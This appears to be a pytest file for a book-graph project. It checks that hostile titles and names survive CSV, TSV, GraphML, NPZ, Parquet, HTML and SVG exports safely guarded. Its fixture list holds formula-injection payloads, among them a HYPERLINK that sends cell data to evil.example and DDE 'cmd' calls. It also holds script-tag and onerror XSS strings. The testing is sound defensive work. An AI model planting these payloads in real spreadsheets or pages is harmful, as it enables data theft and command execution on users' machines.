"""Hostile texts as titles, names, authors and genres through every export, read back whole."""

from __future__ import annotations

import csv
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import networkx as nx
import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from PIL import Image

from bookgraph.api.pictures.export import export_map
from bookgraph.graph.export.formats import export_graph
from bookgraph.graph.export.texts import guard_formulas, unguard_formulas, xml_id, xml_text
from bookgraph.graph.store import Store
from bookgraph.graph.write.vectors import EmbeddingRows, write_embeddings

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"Dune")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Dune;=1+1",
    'Dune",=1+1,"',
    "Dune\n=1+1",
    "'=1+1",
    "\ufeff=1+1",
    "＝1+1",  # noqa: RUF001  # a full-width sign
)
HOSTILE = (
    *FORMULAS,
    'quotes " \' ` ""',
    "commas, semicolons; bars| tabs\tand\nline\r\nends\rof all kinds",
    "a\u2028b\u2029c\x85d\x0be\x0cf",
    "nul \x00 inside",
    "controls \x01\x07\x1b[31m\x7f\x9f",
    "\ufeffbom first",
    "\u202eenuD\u202c right to left שלום",
    "emoji 👩‍👩‍👧 astral 𝔘𐍈 last \U0010fffd",
    "not characters \ufffe\uffff \U0010ffff",
    "]]> <!-- --> <![CDATA[ &amp; &#0; & < >",
    "</script><script>window.hostile = 1</script>",
    '<img src=x onerror="window.hostile = 1">',
    "</title></style></svg>",
    "{{policy}} {{data}} ${7*7} %s %00 \\u0000 \\n \\",
    "long " + "ß" * 2_000,
    "é e\u0301",
    "NA",
    "1e5",
    "007",
    "True",
)


@pytest.fixture(scope="module")
def hostile(module_store: Store) -> Store:
    """Each text is the title, the author and the genre of a book, and the name of a link."""
    store = module_store
    rows = [{"text": text, "i": i} for i, text in enumerate(HOSTILE)]
    store.run("CREATE (:Dataset {name: 'bookgraph'})")
    store.run(
        "UNWIND $rows AS row CREATE (b:Book {title: row.text, author: row.text, genre: row.text, "
        "year: -750, num_links: 1, x: toFloat(row.i), y: -1.5}) "
        "CREATE (l:Link {name: row.text, title: row.text, kind: 'article', num_books: 1, x: 0.5, "
        "y: 0.5}) CREATE (b)-[:LINKS_TO {count: 1}]->(l)",
        rows=rows,
    )
    vectors = np.arange(2 * len(HOSTILE), dtype=np.float32).reshape(-1, 2)
    write_embeddings(
        store,
        EmbeddingRows(
            version="v1",
            book_titles=list(HOSTILE),
            book_vectors=vectors,
            link_names=list(HOSTILE),
            link_vectors=vectors,
            properties={},
        ),
    )
    return store


def cells_of(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, delimiter=delimiter))


@pytest.mark.parametrize("is_guarded", [True, False])
def test_csv(hostile: Store, tmp_path: Path, is_guarded: bool) -> None:
    files = export_graph(hostile, tmp_path, "csv", guard_formulas=is_guarded).files
    expected = {guard_formulas(text) if is_guarded else text for text in HOSTILE}
    books, links, edges = (cells_of(path) for path in files)
    assert {row["title"] for row in books} == {row["author"] for row in books} == expected
    assert {row["name"] for row in links} == expected
    assert {(row["book"], row["link"]) for row in edges} == {(one, one) for one in expected}
    assert {row["year"] for row in books} == {"-750"}
    table = pd.read_csv(files[0], keep_default_na=False, dtype={"title": str})
    with_nul = {text for text in expected if "\x00" in text}  # pandas' parser ends a text there
    assert {*table["title"]} >= expected - with_nul
    assert {*table["year"]} == {-750}
    if is_guarded:
        assert {unguard_formulas(row["title"]) for row in books} == {*HOSTILE}


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_spreadsheet_finds_a_formula_in_the_tables(
    hostile: Store, tmp_path: Path, delimiter: str
) -> None:
    """Also where it splits the lines at another separator, as many countries set it."""
    numbers = {"-750", "-1.5"}
    found = []
    for path in export_graph(hostile, tmp_path, "csv").files:
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file, delimiter=delimiter):
                found += [cell for cell in row if cell.startswith(("=", "+", "-", "@", "＝"))]  # noqa: RUF001
    split_numbers = {cell for cell in found if cell in numbers}
    assert {*found} == split_numbers, {*found} - numbers


def test_the_projectors_tables(hostile: Store, tmp_path: Path) -> None:
    export_graph(hostile, tmp_path, "projector")
    for name in ("books", "links"):
        lines = (tmp_path / f"{name}.metadata.tsv").read_text("utf-8").split("\n")
        assert len(lines) == len(HOSTILE) + 2
        assert {line.count("\t") for line in lines[:-1]} == {lines[0].count("\t")}
        cells = {cell for line in lines[1:] for cell in line.split("\t")}
        assert not {cell for cell in cells if cell.startswith(("=", "+", "@", "＝"))}  # noqa: RUF001
        assert len(np.loadtxt(tmp_path / f"{name}.vectors.tsv", delimiter="\t")) == len(HOSTILE)
    export_graph(hostile, tmp_path, "projector", guard_formulas=False)
    lines = (tmp_path / "books.metadata.tsv").read_text("utf-8").split("\n")
    assert "+1+1" in {line.split("\t")[0] for line in lines}


def test_graphml(hostile: Store, tmp_path: Path) -> None:
    (path,) = export_graph(hostile, tmp_path, "graphml").files
    graph = nx.read_graphml(path)
    for prefix in ("b:", "l:"):
        found = {node: data for node, data in graph.nodes(data=True) if node.startswith(prefix)}
        assert found.keys() == {xml_id(prefix + text) for text in HOSTILE}
        for text in HOSTILE:
            assert found[xml_id(prefix + text)]["title"] == xml_text(text)
    assert graph.number_of_edges() == len(HOSTILE)
    assert all(graph.has_edge(xml_id(f"b:{text}"), xml_id(f"l:{text}")) for text in HOSTILE)


def test_npz(hostile: Store, tmp_path: Path) -> None:
    (path,) = export_graph(hostile, tmp_path, "npz").files
    with np.load(path, allow_pickle=False) as archive:
        assert {*archive["book_titles"].tolist()} == {*HOSTILE}
        assert {*archive["link_names"].tolist()} == {*HOSTILE}
        names = archive["link_names"].tolist()
        titles = archive["book_titles"].tolist()
        assert all(titles[book] == names[link] for book, link in archive["pairs"].tolist())


def test_parquet(hostile: Store, tmp_path: Path) -> None:
    books, links, edges = export_graph(hostile, tmp_path, "parquet").files
    assert {*pq.read_table(books)["title"].to_pylist()} == {*HOSTILE}
    assert {*pq.read_table(links)["name"].to_pylist()} == {*HOSTILE}
    table = pq.read_table(edges)
    assert table["book"].to_pylist() == table["link"].to_pylist()


class Scripts(HTMLParser):
    """Collects the content of each script element, as a browser would find it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: dict[str, str] = {}
        self.num = 0
        self.tags: set[str] = set()
        self._name: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.num += tag == "script"
        self._name = (dict(attrs).get("id") or "") if tag == "script" else None

    def handle_data(self, data: str) -> None:
        if self._name is not None:
            self.found[self._name] = self.found.get(self._name, "") + data

    def handle_endtag(self, tag: str) -> None:
        self._name = None


def test_the_page_holds_the_titles_as_data_only(hostile: Store, tmp_path: Path) -> None:
    text = export_map(hostile, tmp_path, "html").read_text("utf-8")
    page = Scripts()
    page.feed(text)
    (data,) = [one for one in page.found.values() if '"title"' in one and '"book tsne"' in one]
    shown: dict[str, Any] = json.loads(data)["book tsne"]
    assert {*shown["title"]} == {*HOSTILE}
    assert "img" not in page.tags
    # As many scripts as in the page of harmless titles.
    hostile.run("MATCH (n:Book) SET n.x = null WITH n LIMIT 1 SET n.x = 1.0")
    assert page.num == text.count("<script")


def test_pictures(hostile: Store, tmp_path: Path) -> None:
    hostile.run("MATCH (n:Book) SET n.x = coalesce(n.x, 2.0)")
    root = ET.fromstring(export_map(hostile, tmp_path, "svg").read_bytes())
    texts = [one.text or "" for one in root.iter("{http://www.w3.org/2000/svg}text")]
    assert all(len(text) < 40 and "\n" not in text for text in texts)
    with Image.open(export_map(hostile, tmp_path, "png")) as image:
        image.load()
